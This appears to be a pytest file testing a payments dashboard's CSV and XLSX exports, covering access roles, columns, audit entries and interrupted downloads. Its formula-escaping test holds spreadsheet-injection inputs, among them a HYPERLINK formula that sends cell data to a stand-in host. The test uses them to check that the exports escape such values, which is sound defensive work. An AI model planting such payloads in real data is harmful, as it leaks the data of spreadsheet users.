"""Exports: the same rows as the list, harmless in a spreadsheet, audited, and never incomplete without notice."""

from __future__ import annotations

import http.client
from collections.abc import Callable
from contextlib import closing
from datetime import timedelta
from typing import Any

import pytest
from bson import ObjectId
from flask import Flask
from flask.testing import FlaskClient
from pymongo.database import Database

from app.domain.permissions import Role
from app.models.listing.payment_summary import row_of
from tests.integration.dashboards.pages import csrf_of, enter
from tests.integration.dashboards.test_payments_list import FILTERS, walk
from tests.support import stored
from tests.support.passwords import PASSWORD
from tests.support.server import LiveServer
from tests.support.spreadsheets import rows_of, sheet

PATH = "/dashboard/payments.csv"
COLUMNS = (
    "payment_id created_utc created_local completed_utc completed_local status refund_status disputed order_id "
    "customer_id payment_intent_id description currency amount_minor amount captured_minor captured refunded_minor "
    "refunded card_brand card_country card_last4 three_d_secure attempts failure_codes "
    "fraud_signals released_minor released asked_amount_minor asked_currency payment_method wallet waiting_for"
).split()


@pytest.fixture
def finance(app: Flask) -> FlaskClient:
    return enter(app, Role.FINANCE)


def download(client: FlaskClient, name: str) -> bytes:
    answer = client.get(f"/dashboard/{name}", buffered=True)
    assert answer.status_code == 200
    return answer.data


def test_a_viewer_may_not_export(app: Flask) -> None:
    viewer = enter(app, Role.VIEWER)
    for name in (
        "payments.csv",
        "payments.xlsx",
        "refunds.csv",
        "disputes.xlsx",
        "hours.csv",
        "three_d_secure.csv",
        "times.csv",
        "figures.csv",
        "figures.xlsx",
    ):
        assert viewer.get(f"/dashboard/{name}").status_code == 403
    assert "payments.csv" not in viewer.get("/dashboard/payments").text


@pytest.mark.parametrize("query", FILTERS)
def test_export_has_the_rows_of_the_list(finance: FlaskClient, database: Database[dict[str, Any]], query: str) -> None:
    database.payments.insert_many(stored.mixed(130))
    arguments = dict(part.split("=") for part in query.split("&") if part)
    expected = walk(finance, **arguments, sort="oldest")
    rows = rows_of(finance.get(f"{PATH}?{query}&sort=oldest").text)
    assert [row["payment_id"] for row in rows] == expected


def test_columns_are_stable_and_values_exact(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
    tried = [stored.attempt("failed", "do_not_honor", "authenticated"), stored.attempt("succeeded")]
    made = stored.payment(
        1, currency="kwd", amount=1230, refunds=[stored.refund(1, amount=230, currency="kwd")],
        refund_status="partial", attempts=tried,
    )  # fmt: skip
    database.payments.insert_many([made])
    answer = finance.get(f"{PATH}?from=2026-03-01&to=2026-03-31")
    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == "attachment; filename=payments_2026-03-01_2026-03-31.csv"
    assert answer.headers["Cache-Control"] == "no-store"
    (row,) = rows_of(answer.text)
    assert list(row) == COLUMNS
    assert row["created_utc"] == "2026-03-01T12:01:00Z" and row["created_local"] == "2026-03-01 12:01:00"
    assert (row["amount_minor"], row["amount"]) == ("1230", "1.230")
    assert (row["refunded_minor"], row["refunded"]) == ("230", "0.230")
    assert (row["three_d_secure"], row["attempts"], row["failure_codes"]) == ("yes", "2", "do_not_honor")


@pytest.mark.parametrize(
    ("text", "filed"),
    [
        *((text, f"'{text}") for text in ("=1+1", "+1", "-1", "@SUM(A1)", "  =1", "＝1", "＋1", "－1", "＠a")),
        *(("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("\n=1", "'\n'=1"), ("\ta", "'\ta")),
        ('a;=HYPERLINK("http://x?"&A1);b', 'a;\'=HYPERLINK("http://x?"&A1);b'),
        ('a; "=1";-b|+c', "a;' \"=1\";'-b|'+c"),
        ("first\r\n-second", "first\r\n'-second"),
        ("a-b; c=d, -e", "a-b; c=d, -e"),
    ],
)
def test_a_text_that_looks_like_a_formula_is_escaped(
    finance: FlaskClient, database: Database[dict[str, Any]], text: str, filed: str
) -> None:
    database.payments.insert_many([stored.payment(1, order_id=text, description=text)])
    (row,) = rows_of(finance.get(PATH).text)
    assert row["order_id"] == row["description"] == filed
    cells = sheet(download(finance, "payments.xlsx"))
    assert ("inlineStr", text.replace("\r", "_x000D_")) == cells[1]["I"] or cells[1]["I"][1].strip() == text.strip()


def test_numbers_are_never_marked_as_text(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
    # More was refunded in March than captured: the net is negative.
    payment = stored.payment(1, created_at=stored.EPOCH - timedelta(days=9), refunds=[stored.refund(1)])
    database.payments.insert_many([payment])
    (row,) = rows_of(finance.get("/dashboard/volume.csv?from=2026-03-01&to=2026-03-01").text)
    assert (row["net_minor"], row["net"], row["gross"]) == ("-500", "-5.00", "0.00")


def test_a_workbook_has_real_numbers_and_dates(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
    database.payments.insert_many([stored.payment(1, amount=123456)])
    answer = finance.get("/dashboard/payments.xlsx", buffered=True)
    assert answer.headers["Content-Disposition"] == "attachment; filename=payments_all.xlsx"
    head, row = sheet(answer.data)
    letters = {text: letter for letter, (_, text) in head.items()}
    assert row[letters["amount"]] == ("n", "1234.56")
    assert row[letters["amount_minor"]] == ("n", "123456")
    assert row[letters["created_utc"]][0] == "n" and float(row[letters["created_utc"]][1]) == pytest.approx(
        46082.50069, abs=1e-4
    )
    assert row[letters["card_last4"]] == ("inlineStr", "4242")


def test_exports_of_refunds_disputes_and_figures(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
    database.payments.insert_many(stored.mixed(130))
    (*refunds,) = rows_of(finance.get("/dashboard/refunds.csv").text)
    assert len(refunds) == len([p for p in stored.mixed(130) if p["refunds"]])
    disputes = rows_of(finance.get("/dashboard/disputes.csv?kind=inquiry").text)
    assert {row["kind"] for row in disputes} == {"inquiry"}
    query = "from=2026-03-01&to=2026-03-02&granularity=hour"
    figures = rows_of(finance.get(f"/dashboard/figures.csv?{query}").text)
    assert len(figures) == 48 and sum(int(row["created"]) for row in figures) == 130
    reasons = rows_of(finance.get(f"/dashboard/reasons.csv?{query}").text)
    assert sum(int(row["failed_attempts"]) for row in reasons) == int(reasons[0]["of_failed_attempts"])
    book = download(finance, f"figures.xlsx?{query}")
    assert len(sheet(book, 1)) == 49 and len(sheet(book, 3)) == len(reasons) + 1
    for number, name in ((4, "three_d_secure"), (5, "times"), (6, "hours")):
        rows = rows_of(finance.get(f"/dashboard/{name}.csv?{query}").text)
        assert len(sheet(book, number)) == len(rows) + 1 > 12, name
    for name in ("refunds.xlsx", "disputes.xlsx"):
        assert len(sheet(download(finance, name))) > 1


def test_an_export_of_an_empty_list_has_a_header(finance: FlaskClient) -> None:
    for name in ("payments", "refunds", "disputes", "volume", "reasons"):
        assert rows_of(finance.get(f"/dashboard/{name}.csv").text) == []
    assert len(sheet(download(finance, "payments.xlsx"))) == 1


@pytest.mark.parametrize(
    "address",
    [
        "payments.csv?currency=dollars",
        "payments.csv?counts=nonsense",
        "payments.csv?sort=largest",
        "payments.xlsx?from=tomorrow",
        "refunds.csv?counts=x",
        "disputes.csv?kind=x",
        "figures.csv?from=2016-01-01&to=2026-12-31",
        "figures.csv?from=2026-01-01&to=2026-12-31&granularity=hour",
        "figures.xlsx?granularity=second",
        "figures.csv?from=2199-12-31",
    ],
)
def test_an_invalid_filter_is_rejected(finance: FlaskClient, address: str) -> None:
    """A page shows the nearest view; a file without the filter would contain rows that nobody requested."""
    answer = finance.get(f"/dashboard/{address}")
    assert answer.status_code == 422
    assert "see errors" not in answer.text


def test_export_is_audited_before_and_after(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
    database.payments.insert_many([stored.payment(n) for n in range(3)])
    download(finance, "payments.csv?currency=usd&sort=oldest")
    download(finance, "refunds.xlsx")
    entries = list(database.audit_entries.find({"action": {"$regex": "^export"}}).sort("_id"))
    assert [(e["action"], e["actor"], e["target"]) for e in entries] == [
        ("export.started", "finance@example.com", "payments_all.csv"),
        ("export.finished", "finance@example.com", "payments_all.csv"),
        ("export.started", "finance@example.com", "refunds_all.xlsx"),
        ("export.finished", "finance@example.com", "refunds_all.xlsx"),
    ]
    expected = {"filter": {"currency": "usd", "sort": "oldest"}, "rows": 3, "complete": True}
    assert entries[1]["details"] == expected


def test_an_interrupted_export_is_recognizable(
    app: Flask, database: Database[dict[str, Any]], start_server: Callable[..., LiveServer]
) -> None:
    """The connection ends without the last chunk, so that no browser takes the part for the whole."""
    with app.app_context():
        enter(app, Role.FINANCE).get(PATH)  # makes the account, and the figures of nothing
    rows = [row_of(stored.payment(n)) for n in range(3_000)]
    rows[100]["refunds"] = "not a list of refunds"  # oldest but one hundred: the last of three pages
    database.payment_rows.insert_many([{**row, "_id": ObjectId()} for row in rows])
    server = start_server(workers=1)
    with closing(http.client.HTTPConnection("127.0.0.1", server.settings.port, timeout=30)) as connection:
        _read_until_it_breaks_off(connection)
    last = database.audit_entries.find_one(sort=[("_id", -1)])
    assert last["action"] == "export.finished" and last["details"]["complete"] is False


def _read_until_it_breaks_off(connection: http.client.HTTPConnection) -> None:
    connection.request("GET", "/login")
    answer = connection.getresponse()
    cookie, page = answer.headers["Set-Cookie"].split(";")[0], answer.read().decode()
    form = f"email=finance%40example.com&password={PASSWORD.replace(' ', '+')}&csrf_token={csrf_of(page)}"
    headers = {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}
    connection.request("POST", "/login", form, headers)
    answer = connection.getresponse()
    answer.read()
    cookie = answer.headers["Set-Cookie"].split(";")[0]
    connection.request("GET", PATH, headers={"Cookie": cookie})
    # What breaks off keeps its own hold of the connection, which has to be let go as well.
    with closing(connection.getresponse()) as answer:
        assert answer.status == 200
        with pytest.raises((http.client.IncompleteRead, ConnectionResetError)):
            answer.read()
